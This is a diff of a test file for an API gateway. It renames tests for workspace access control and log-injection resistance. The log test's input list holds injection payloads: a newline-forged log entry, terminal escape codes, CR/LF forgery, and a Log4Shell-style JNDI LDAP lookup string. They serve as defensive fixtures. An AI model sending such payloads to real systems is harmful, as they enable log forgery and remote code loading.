@@ -79,7 +79,7 @@ describe('a client reaches only what is open to it', () => {
     expect(outcomeOf(await ask(gateway.port, { fields: asClient('a'), body }))).toEqual([400, 'bad_request']);
   });
 
-  test('what several clients share in one workspace is closed unless a client\'s routes name it', async () => {
+  test('resources of a shared workspace are closed unless a client\'s routes name them', async () => {
     const before = upstream.requests.length;
     for (const path of ['/v1/files', '/v1/files/file_of_another/content', '/v1/messages/batches/batch_of_another/results', '/v1/skills/s']) {
       expect(outcomeOf(await ask(gateway.port, { method: 'GET', path, fields: asClient('c') }))).toEqual([403, 'forbidden']);
@@ -125,7 +125,7 @@ test.each([
   expect(upstream.requests.length).toBe(forwarded);
 });
 
-test('what a client sends cannot write log lines, terminal codes or long entries', async () => {
+test('client input cannot write log lines, terminal codes or long entries', async () => {
   await using gateway = await startTestGateway(upstream.origin, { clients: [clientOf('a')] });
   const hostile = ['x\\n{"level":"fatal"}', '\xc2\x9b31mred', 'z'.repeat(9_000), '%0a%0dforged', '${jndi:ldap://x}', 'caf\xe9'];
   for (const text of hostile) {
